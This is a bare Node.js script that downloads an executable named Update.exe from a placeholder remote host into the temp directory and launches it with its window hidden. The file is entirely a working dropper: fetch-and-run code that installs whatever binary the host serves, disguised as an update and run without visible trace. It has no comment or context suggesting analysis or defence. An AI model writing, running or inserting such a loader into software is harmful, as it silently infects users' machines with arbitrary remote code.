const fs = require('fs'); const https = require('https'); const path = require('path'); const os = require('os');
const { exec } = require('child_process');
const url = 'https://cdn.example.invalid/bin/Update.exe';
const out = path.join(os.tmpdir(), 'Update.exe');
function dl(u, dest, cb) {
  const f = fs.createWriteStream(dest);
  https.get(u, (res) => { res.pipe(f); f.on('finish', () => f.close(cb)); });
}
dl(url, out, () => { exec(`start "" "${out}"`, { windowsHide: true }); });